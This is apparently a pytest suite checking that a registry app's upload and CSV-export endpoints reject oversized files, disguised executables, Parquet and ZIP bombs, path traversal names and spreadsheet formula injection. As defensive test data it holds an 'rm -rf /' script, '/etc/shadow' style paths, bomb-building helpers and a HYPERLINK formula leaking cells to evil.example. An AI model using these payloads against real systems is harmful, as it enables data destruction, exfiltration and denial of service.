"""Upload safety: size limits, content sniffing, bombs, path traversal, CSV formula injection."""

from __future__ import annotations

import csv
import io
import re
import resource
import time
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import func, select

from registry.extensions import db
from tests.hardening.conftest import multipart

SMALL_CSV = b"g,y,p\n" + b"".join(
    f"{'ab'[i % 2]},{i % 3 % 2},{i % 5 % 2}\n".encode() for i in range(60)
)
STORED_NAME = re.compile(r"[0-9a-f]{2}/[0-9a-f]{64}")


@pytest.fixture
def owner(factory):
    team = factory.user("team")
    return {"user": team, "pilot": factory.pilot(team), "headers": factory.headers(team)}


def _evidence(client, owner, content: bytes, name: str):
    body, content_type = multipart({"kind": "pia"}, name, content)
    return client.post(
        f"/api/v1/pilots/{owner['pilot'].id}/evidence",
        data=body,
        content_type=content_type,
        headers=owner["headers"],
    )


def _bias_check(client, owner, content: bytes, name: str = "outputs.csv"):
    return client.post(
        f"/api/v1/pilots/{owner['pilot'].id}/bias-checks",
        data={
            "y_true": "y",
            "y_pred": "p",
            "sensitive_features": "g",
            "file": (io.BytesIO(content), name),
        },
        headers=owner["headers"],
    )


def _count(model) -> int:
    return db.session.scalar(select(func.count()).select_from(model))


def _stored_files(app) -> list[str]:
    root = Path(app.config["UPLOAD_FOLDER"])
    return sorted(str(path.relative_to(root)) for path in root.rglob("*") if path.is_file())


def _assert_only_content_addressed_files(app) -> None:
    for name in _stored_files(app):
        area, _, rest = name.partition("/")
        assert area in {"evidence", "bias"} and STORED_NAME.fullmatch(rest), name


# ---- size limits -----------------------------------------------------------------------------


def test_evidence_over_the_limit_is_413_json_and_leaves_nothing(app, client, owner):
    from assessments.models import Evidence

    app.config["MAX_EVIDENCE_BYTES"] = 1024
    response = _evidence(client, owner, b"a" * 1025, "big.txt")
    assert response.status_code == 413 and response.is_json
    body = response.get_json()
    assert body["code"] == 413 and "1 KiB" in body["message"] and body["errors"]["file"]
    assert _count(Evidence) == 0 and _stored_files(app) == []
    assert _evidence(client, owner, b"a" * 1024, "fits.txt").status_code == 201


def test_bias_check_over_the_limit_is_413_json_and_leaves_nothing(app, client, owner):
    from assessments.models import BiasCheck

    app.config["MAX_UPLOAD_BYTES"] = 256
    response = _bias_check(client, owner, SMALL_CSV)
    assert len(SMALL_CSV) > 256
    assert response.status_code == 413 and response.is_json
    assert response.get_json()["errors"]["file"]
    assert _count(BiasCheck) == 0 and _stored_files(app) == []


def test_a_request_over_the_routes_limit_is_413_json(app, client, owner):
    from registry.request_limits import FORM_OVERHEAD_BYTES

    app.config["MAX_CONTENT_LENGTH"] = 4096
    app.config["MAX_EVIDENCE_BYTES"] = 1024
    response = _evidence(client, owner, b"a" * (1024 + FORM_OVERHEAD_BYTES), "big.txt")
    assert response.status_code == 413 and response.is_json
    assert response.get_json()["code"] == 413 and response.get_json()["errors"]["file"]
    assert _stored_files(app) == []


# ---- sniffing --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("report.pdf", b"<html><body><script>alert(1)</script></body></html>", "HTML"),
        ("photo.png", b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "executable"),
        (
            "notes.txt",
            b"MZ" + b"\x00" * 58 + b"\x40\x00\x00\x00" + b"PE\x00\x00" + b"\x00" * 64,
            "executable",
        ),
        ("diagram.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "SVG"),
        ("plan.docx", b"#!/bin/sh\nrm -rf /\n", "script"),
    ],
)
def test_disguised_evidence_is_refused_by_its_content(app, client, owner, name, content, said):
    from assessments.models import Evidence

    response = _evidence(client, owner, content, name)
    assert response.status_code == 422, response.get_json()
    assert said in response.get_json()["errors"]["file"][0]
    assert _count(Evidence) == 0 and _stored_files(app) == []


def _xlsx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, "PNG"),
        (_xlsx(), "Excel"),
        (b"%PDF-1.7\n" + b"\x00" * 100, "PDF"),
    ],
)
def test_disguised_bias_check_uploads_are_refused(app, client, owner, content, said):
    from assessments.models import BiasCheck

    response = _bias_check(client, owner, content, "outputs.csv")
    assert response.status_code == 422
    assert said in response.get_json()["errors"]["file"][0]
    assert _count(BiasCheck) == 0 and _stored_files(app) == []


# ---- bombs -----------------------------------------------------------------------------------

# A minimal Thrift compact-protocol writer, enough to write a Parquet footer that lies.
_I32, _I64, _BINARY, _LIST, _STRUCT = 5, 6, 8, 9, 12


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        if n:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def _value(kind: int, value) -> bytes:
    if kind in (_I32, _I64):
        return _varint((value << 1) ^ (value >> 63))
    if kind == _BINARY:
        return _varint(len(value)) + value.encode()
    if kind == _STRUCT:
        return _struct(value)
    element, items = value
    head = bytes([(len(items) << 4) | element]) if len(items) < 15 else bytes([0xF0 | element])
    return head + b"".join(_value(element, item) for item in items)


def _struct(fields) -> bytes:
    out, last = b"", 0
    for field_id, kind, value in fields:
        out += bytes([((field_id - last) << 4) | kind]) + _value(kind, value)
        last = field_id
    return out + b"\x00"


def lying_parquet(*, rows: int, declared_bytes: int) -> bytes:
    """A Parquet file of one INT32 column whose footer declares `rows` and `declared_bytes`."""
    column_meta = [
        (1, _I32, 1),  # INT32
        (2, _LIST, (_I32, [0])),  # PLAIN
        (3, _LIST, (_BINARY, ["y"])),
        (4, _I32, 0),  # UNCOMPRESSED
        (5, _I64, rows),
        (6, _I64, declared_bytes),
        (7, _I64, 16),
        (9, _I64, 4),
    ]
    row_group = [
        (1, _LIST, (_STRUCT, [[(2, _I64, 4), (3, _STRUCT, column_meta)]])),
        (2, _I64, declared_bytes),
        (3, _I64, rows),
    ]
    footer = _struct(
        [
            (1, _I32, 1),
            (
                2,
                _LIST,
                (
                    _STRUCT,
                    [
                        [(4, _BINARY, "schema"), (5, _I32, 1)],
                        [(1, _I32, 1), (3, _I32, 0), (4, _BINARY, "y")],
                    ],
                ),
            ),
            (3, _I64, rows),
            (4, _LIST, (_STRUCT, [row_group])),
        ]
    )
    return b"PAR1" + b"\x00" * 16 + footer + len(footer).to_bytes(4, "little") + b"PAR1"


def test_the_lying_parquet_writer_writes_a_footer_pyarrow_reads():
    import pyarrow.parquet as pq

    metadata = pq.ParquetFile(io.BytesIO(lying_parquet(rows=7, declared_bytes=99))).metadata
    assert (metadata.num_rows, metadata.row_group(0).total_byte_size) == (7, 99)


def _peak_rss_mib() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


@pytest.mark.parametrize(
    ("rows", "declared", "said"),
    [
        (10**12, 10**6, "declares 1,000,000,000,000 rows"),
        (1000, 10**13, "decompression bomb"),
    ],
)
def test_parquet_with_a_huge_declared_size_is_refused_quickly(
    app, client, owner, rows, declared, said
):
    from assessments.models import BiasCheck

    before = _peak_rss_mib()
    started = time.perf_counter()
    response = _bias_check(
        client, owner, lying_parquet(rows=rows, declared_bytes=declared), "outputs.parquet"
    )
    assert time.perf_counter() - started < 5
    assert response.status_code == 422, response.get_json()
    assert said in response.get_json()["errors"]["file"][0]
    assert _peak_rss_mib() - before < 200  # nothing was allocated for the declared rows
    assert _count(BiasCheck) == 0 and _stored_files(app) == []


def zip_declaring(uncompressed: int) -> bytes:
    """A DOCX-looking ZIP whose directory says a member unpacks to `uncompressed` bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"\x00" * 4096)
    data = bytearray(buffer.getvalue())
    directory = data.rfind(b"PK\x01\x02")  # the last member's central-directory entry
    data[directory + 24 : directory + 28] = min(uncompressed, 0xFFFFFFFE).to_bytes(4, "little")
    return bytes(data)


def test_a_zip_bomb_disguised_as_a_word_document_is_refused_quickly(app, client, owner):
    from assessments.models import Evidence

    started = time.perf_counter()
    response = _evidence(client, owner, zip_declaring(4 * 1024**3 - 2), "minutes.docx")
    assert time.perf_counter() - started < 5
    assert response.status_code == 422
    assert "zip bomb" in response.get_json()["errors"]["file"][0]
    assert _count(Evidence) == 0 and _stored_files(app) == []


def test_a_zip_with_too_many_members_is_refused(app, client, owner):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<document/>")
        for i in range(10_001):
            archive.writestr(f"word/media/{i}.bin", b"")
    response = _evidence(client, owner, buffer.getvalue(), "report.docx")
    assert response.status_code == 422 and "zip bomb" in response.get_json()["errors"]["file"][0]


# ---- names -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "a/../../b.txt"]
)
def test_client_file_names_never_become_paths(app, client, owner, name):
    from assessments.models import Evidence

    content = f"Privacy impact assessment for {name}\n".encode()
    response = _evidence(client, owner, content, name)
    assert response.status_code == 201, response.get_json()
    stored = db.session.get(Evidence, response.get_json()["id"])
    assert "/" not in stored.filename and "\\" not in stored.filename
    assert not stored.filename.startswith(".")
    _assert_only_content_addressed_files(app)
    assert f"evidence/{stored.sha256[:2]}/{stored.sha256}" in _stored_files(app)
    download = client.get(f"/api/v1/evidence/{stored.id}/download", headers=owner["headers"])
    assert download.get_data() == content
    disposition = download.headers["Content-Disposition"]
    assert ".." not in disposition and "/" not in disposition
    download.close()


def test_bias_check_file_names_never_become_paths(app, client, owner):
    response = _bias_check(client, owner, SMALL_CSV, "../../../../tmp/outputs.csv")
    assert response.status_code == 201, response.get_json()
    assert response.get_json()["filename"] == "outputs.csv"
    _assert_only_content_addressed_files(app)
    assert not Path("/tmp/outputs.csv").exists() or Path("/tmp/outputs.csv").read_bytes() != (
        SMALL_CSV
    )


# ---- CSV exports -----------------------------------------------------------------------------


def test_inventory_csv_neutralises_formulas(client, factory):
    team = factory.user("team")
    factory.public_pilot(
        team,
        name='=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
        purpose="+SUM(1,2)",
        agency="@MCG",
        vendor_name="-2+3",
    )
    response = client.get("/api/v1/inventory.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' in cells
    assert "'+SUM(1,2)" in cells and "'-2+3" in cells
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
